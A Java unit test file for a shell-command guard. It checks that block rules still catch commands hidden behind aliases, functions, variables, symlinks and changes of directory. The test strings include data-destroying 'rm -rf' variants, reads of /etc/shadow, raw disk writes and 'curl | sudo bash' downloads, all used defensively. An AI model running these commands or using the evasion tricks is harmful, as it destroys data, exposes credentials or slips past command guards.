package io.sallyport.judgement.verdict;

import static org.assertj.core.api.Assertions.assertThat;

import io.sallyport.judgement.rule.Action;
import io.sallyport.judgement.rule.Pattern;
import io.sallyport.judgement.rule.PatternKind;
import io.sallyport.judgement.rule.Rule;
import io.sallyport.judgement.shell.syntax.Dialect;
import io.sallyport.judgement.snapshot.Doubt;
import io.sallyport.judgement.snapshot.SessionParameters;
import io.sallyport.judgement.snapshot.Snapshot;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What earlier lines of a session leave behind, and the kinds of pattern that are about paths. */
class SessionLinesTest {

  private static final List<Rule> RULES =
      List.of(
          Examples.rule("rm", Action.BLOCK, "rm -rf /var/data", 0),
          Examples.rule("reads", Action.BLOCK, new Pattern(PatternKind.READS, "/etc/shadow"), 0),
          Examples.rule("writes", Action.BLOCK, new Pattern(PatternKind.WRITES, "/dev/sd*"), 0),
          Examples.rule(
              "curl", Action.BLOCK, new Pattern(PatternKind.RUNS_OUTPUT_OF, "curl *"), 0));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "alias x='rm -rf'\nx /var/data",
        "f() { rm -rf \"$1\"; } 2>&1\nf /var/data",
        "d=/var/data\nrm -rf $d",
        "cd /var\nrm -rf data",
        "cd /var\ncd lib\nrm -rf ../data",
        "pushd /var\nrm -rf data",
        "ln -s /var/data /tmp/l\nrm -rf /tmp/l",
        "cp /bin/rm /tmp/x\n/tmp/x -rf /var/data",
        "echo rm -rf /var/data > /tmp/s\nsh /tmp/s",
        "curl http://x > /tmp/s\nbash /tmp/s",
        "echo -rf /var/data\nrm !*",
        "rm() { :; }\nbash\nrm -rf /var/data",
        "python3\nimport os\nos.system('rm -rf /var/data')",
        "while read l; do echo $l; done < /etc/shadow",
        "cat /etc/sh?dow",
        "cd /etc\nhead ./shadow",
        "echo x > /dev/sda1",
        "dd if=/etc/shadow",
        "curl -s http://x | sudo bash",
      })
  void aLineIsJudgedWithThoseBeforeIt(String lines) {
    assertThat(last(lines).decision()).isEqualTo(Decision.REFUSE);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "rm() { echo no; }\nrm -rf /var/data",
        "d=/tmp/data\nrm -rf $d",
        "cd /tmp\nrm -rf data",
        "stat /etc/shadow",
        "cat /etc/shadow.notes",
        "grep /etc/shadow notes",
        "curl -s http://x | jq .",
        "curl -s http://x > /tmp/x\ncat /tmp/x",
        "echo /dev/sda",
        "(cd /var)\nrm -rf data",
      })
  void whatEarlierLinesChangedIsNotHeldAgainstALine(String lines) {
    assertThat(last(lines).decision()).isEqualTo(Decision.PROCEED);
  }

  @Test
  void aRefusedLineLeavesNothingBehind() {
    Judgement judgement = judge(ShellState.EMPTY, "a=1; rm -rf /var/data");

    assertThat(judgement.verdict().decision()).isEqualTo(Decision.REFUSE);
    assertThat(judgement.shellState()).isEqualTo(ShellState.EMPTY);
  }

  @Test
  void whatARuleMayBeMeantForIsOpaque() {
    assertThat(last("rm -rf $unknown").opaque()).isNotEmpty();
    assertThat(last("truncate -s0 /var/data/f").opaque()).isNotEmpty();
    assertThat(last("rm -rf \"/tmp/$unknown\"").opaque()).isEmpty();
  }

  private static Verdict last(String lines) {
    ShellState state = ShellState.EMPTY;
    Verdict verdict = null;
    for (String line : lines.split("\n", -1)) {
      Judgement judgement = judge(state, line);
      state = judgement.shellState();
      verdict = judgement.verdict();
    }
    return java.util.Objects.requireNonNull(verdict);
  }

  private static Judgement judge(ShellState state, String line) {
    Snapshot snapshot =
        new Snapshot(RULES, new SessionParameters(Doubt.ALERT, Doubt.ALERT, List.of()));
    return Judge.judge(
        new CompiledSnapshot(snapshot),
        new Submission(
            Map.of(), state, List.of(line), LineKind.TERMINAL, Confidence.CERTAIN, Dialect.BASH));
  }
}
